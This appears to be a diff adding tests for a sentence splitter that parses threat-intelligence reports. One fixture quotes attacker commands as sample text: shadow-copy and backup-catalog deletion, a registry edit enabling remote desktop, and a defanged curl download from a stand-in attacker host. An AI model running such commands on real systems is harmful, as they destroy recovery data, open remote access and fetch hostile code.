@@ -42,6 +42,9 @@ def _split(text):
         ["It contacts api.ipify.org, ipinfo.io, etc. to learn its address."],
         ["Contact soc@example.com.", "Include the hash."],
         ["The key is 0xB9.", "It is fixed."],
+        ["Figure 3. The chain of infection."],
+        ["Table 2-1. Indicators of the group.", "They are defanged."],
+        ["The chain is shown in Figure 3.", "Two stages are missing."],
     ],
 )
 def test_sentences_of_this_field(sentences):
@@ -77,6 +80,92 @@ def test_hard_wrapped_lines_are_joined():
     )
 
     assert len(_split(text)) == 2
+
+
+def test_a_number_at_a_wrapped_line_is_no_bullet_unless_it_begins_or_continues_a_list():
+    text = (
+        "Slate Otter sends invoices to accountants, and only to those with Windows\n"
+        "10. The macros do not run elsewhere. The victims may call the helpdesk at\n"
+        "(855) 292-3937 at any time, which they do. It does these things in order:\n"
+        "1. It starts PowerShell with a window that nobody sees, and waits for it to\n"
+        "2. It ends\n"
+    )
+
+    assert _split(text) == [
+        "Slate Otter sends invoices to accountants, and only to those with Windows 10.",
+        "The macros do not run elsewhere.",
+        "The victims may call the helpdesk at (855) 292-3937 at any time, which they do.",
+        "It does these things in order:",
+        "It starts PowerShell with a window that nobody sees, and waits for it to",
+        "It ends",
+    ]
+
+
+def test_rows_that_are_aligned_by_spaces_are_cells_and_a_cell_may_go_on_below():
+    text = (
+        "TLP:CLEAR                               First published: 9 September 2025\n"
+        "=========================================================================\n"
+        "Date          What was seen in the network of the victim in that time\n"
+        "2025-08-07    First logon to the VPN with the account of a contractor, at\n"
+        "              night\n"
+        "2025-08-08    Network scan\n"
+    )
+
+    assert _split(text) == [
+        "TLP:CLEAR",
+        "First published: 9 September 2025",
+        "Date",
+        "What was seen in the network of the victim in that time",
+        "2025-08-07",
+        "First logon to the VPN with the account of a contractor, at night",
+        "2025-08-08",
+        "Network scan",
+    ]
+
+
+def test_a_wide_space_inside_of_prose_parts_no_cells():
+    assert _split("In April the group    used a web shell.    It was simple.") == [
+        "In April the group used a web shell.",
+        "It was simple.",
+    ]
+
+
+def test_the_commands_of_an_indented_listing_are_apart_and_their_continuations_are_not():
+    text = (
+        "They switched off what could have helped the victim to get back on its feet:\n"
+        "\n"
+        "    vssadmin.exe delete shadows /all /quiet\n"
+        "    wbadmin.exe delete catalog -quiet\n"
+        '    reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server"\n'
+        "        /v fDenyTSConnections /t REG_DWORD /d 0 /f\n"
+        "    curl -s hxxp://evil[.]example/a \\\n"
+        "    -o /tmp/a\n"
+        "\n"
+        "    An indented paragraph of plain words is no listing, however far its\n"
+        "    lines stand from the margin of the page.\n"
+    )
+
+    assert _split(text)[1:] == [
+        "vssadmin.exe delete shadows /all /quiet",
+        "wbadmin.exe delete catalog -quiet",
+        'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
+        "curl -s hxxp://evil[.]example/a \\ -o /tmp/a",
+        "An indented paragraph of plain words is no listing, however far its lines stand from the margin of the page.",
+    ]
+
+
+def test_items_pasted_from_a_word_processor_lose_their_numbers():
+    assert _split("1.\xa0\xa0 It waits\n2.\xa0\xa0 It exits") == ["It waits", "It exits"]
+
+
+def test_sentences_without_spaces_between_them_end_at_their_own_full_stop():
+    assert _split(
+        "\u653b\u6483\u8005\u306f\u5f85\u3064\u3002\u300c\u7d42\u308f\u3063\u305f\u3002\u300d\u3068\u8a00\u3063\u305f\u3002"
+    ) == [
+        "\u653b\u6483\u8005\u306f\u5f85\u3064\u3002",
+        "\u300c\u7d42\u308f\u3063\u305f\u3002\u300d",
+        "\u3068\u8a00\u3063\u305f\u3002",
+    ]
 
 
 def test_headings_commands_and_cells_stand_alone():
